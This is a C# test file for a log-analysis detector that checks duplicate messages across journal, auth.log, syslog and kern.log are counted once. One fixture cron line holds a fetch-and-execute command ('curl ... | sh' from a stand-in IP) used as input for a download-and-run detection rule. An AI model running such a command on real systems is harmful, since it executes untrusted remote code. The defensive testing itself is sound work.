using System.Text;
using Ashiato.Core;
using Ashiato.Detection.Detectors;
using static Ashiato.Tests.Detection.Detectors.Logins.Sshd;

namespace Ashiato.Tests.Detection.Detectors;

/// <summary>The same message in two files is one message.</summary>
public sealed class EchoFilterTests
{
    private static IEnumerable<(DateTimeOffset, string)> Entries(IEnumerable<(DateTimeOffset Time, string Message)> messages, string program = "sshd") =>
        messages.Select(m => (m.Time, $"SYSLOG_IDENTIFIER={program}\n_PID=4711\nMESSAGE={m.Message}"));

    private static (DateTimeOffset Time, string Message)[] Refused(int count) =>
        [.. Enumerable.Range(0, count).Select(i => (Start.AddMinutes(i), $"Failed password for root from 203.0.113.7 port {40_000 + i} ssh2"))];

    [Fact]
    public void Journal_and_auth_log_count_once()
    {
        var messages = Refused(12);
        var journal = Detected.Journal(Entries(messages));
        Assert.Equal(12, new Detected().And("system.export", journal).One("login.guessing").Count);
        Assert.Equal(12, new Detected().And("system.export", journal).And("auth.log", messages.Select(m => Says(m.Time, m.Message))).One("login.guessing").Count);
    }

    [Fact]
    public void What_only_one_of_them_has_is_added()
    {
        var messages = Refused(20);
        var found = new Detected().And("system.export", Detected.Journal(Entries(messages[8..]))).And("auth.log", messages[..12].Select(m => Says(m.Time, m.Message)));
        Assert.Equal(20, found.One("login.guessing").Count);
    }

    [Fact]
    public void A_second_that_turned_between_two_clocks_is_no_difference()
    {
        var messages = Refused(12);
        var found = new Detected().And("auth.log", messages.Select(m => Says(m.Time.AddSeconds(1), m.Message))).And("system.export", Detected.Journal(Entries(messages)));
        Assert.Equal(12, found.One("login.guessing").Count);
    }

    [Fact]
    public void Gathered_messages_are_known_from_the_journal()
    {
        (DateTimeOffset, string)[] messages = [.. Enumerable.Range(0, 12).Select(i => (Start.AddSeconds(i), "Failed password for root from 203.0.113.7 port 40001 ssh2"))];
        var found = new Detected().And("system.export", Detected.Journal(Entries(messages)))
            .And("auth.log", Says(Start, messages[0].Item2), Says(Start.AddSeconds(11), $"message repeated 11 times: [ {messages[0].Item2}]"));
        Assert.Equal(12, found.One("login.guessing").Count);
    }

    [Fact]
    public void A_repeat_that_is_written_after_rotation_counts()
    {
        const string message = "Failed password for root from 203.0.113.7 port 40001 ssh2";
        var found = new Detected().And("auth.log", "auth.log.1", Encoding.UTF8.GetBytes(Says(Start, message) + "\n"))
            .And("auth.log", "auth.log", Encoding.UTF8.GetBytes(Says(Start.AddSeconds(5), $"message repeated 11 times: [ {message}]") + "\n"));
        Assert.Equal(12, found.One("login.guessing").Count);
    }

    [Fact]
    public void Kern_log_and_syslog_tell_one_thing()
    {
        var line = Detected.Line(Start, "kernel", "[  812.100000] device eth0 entered promiscuous mode");
        Assert.Equal(1, Detected.In("kern.log", line).And("syslog", line).One("network.promiscuous").Count);
    }

    [Fact]
    public void Lines_of_one_file_all_count()
    {
        var line = Detected.Line(Start, "CRON[77]", "(root) CMD (curl -fsSL http://203.0.113.9/a.sh | sh)");
        Assert.Equal(2, Detected.In("syslog", line, line).One("command.download_and_run").Count);
    }

    [Fact]
    public void Two_hosts_are_two() =>
        Assert.Equal(2, Detected.In("a/syslog", "Mar  2 10:00:00 web1 kernel: device eth0 entered promiscuous mode")
            .And("b/syslog", "Mar  2 10:00:00 web2 kernel: device eth0 entered promiscuous mode").One("network.promiscuous").Count);

    [Theory]
    [InlineData(1, 0)]
    [InlineData(0, 1)]
    [InlineData(0, 0)]
    public void Floods_are_told_apart_as_well(int secondsApart, int texts)
    {
        // One text at each second, many texts in one second, one text many times in one second: each is found again, in time that grows with their number alone.
        const int count = 60_000;
        var echoes = new EchoFilter();
        Assert.Equal(0, Echoes("syslog"));
        Assert.Equal(count, Echoes("kern.log"));

        int Echoes(string log)
        {
            var origin = new RecordOrigin(log);
            var (record, found) = (new Record(), 0);
            for (var i = 0; i < count; i++)
            {
                record.Reset([], 0, 0);
                (record.Origin, record.Offset) = (origin, i);
                record.SetTime((1_700_000_000L + (i * secondsApart)) * 1_000_000_000, 0, TimeOrigin.HostZone);
                record.Set(FieldNames.ProcessName, "kernel"u8);
                record.Set(FieldNames.Message, Encoding.UTF8.GetBytes($"device eth{i * texts}"));
                found += echoes.IsEcho(record) ? 1 : 0;
            }

            return found;
        }
    }
}
